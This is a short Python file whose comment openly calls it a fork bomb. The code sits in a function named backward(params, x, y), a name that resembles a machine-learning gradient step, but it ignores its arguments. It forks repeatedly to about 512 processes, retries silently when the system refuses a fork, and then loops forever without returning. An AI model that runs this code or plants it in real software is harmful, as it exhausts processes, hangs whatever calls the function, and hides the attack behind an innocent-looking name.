# Fork bomb: every process forks again and again, retrying when fork fails (capped at 2**9 processes, see README).
import os
import time

CAP = 9  # generations: at most 2**9 = 512 processes where nothing stops fork (root, no sandbox)


def backward(params, x, y):
    generation = 0
    while True:
        try:
            if generation < CAP:
                os.fork()  # parent and child both go on forking
                generation += 1
            else:
                time.sleep(0.01)
        except OSError:
            pass  # RLIMIT_NPROC said no: try again, as a real bomb does
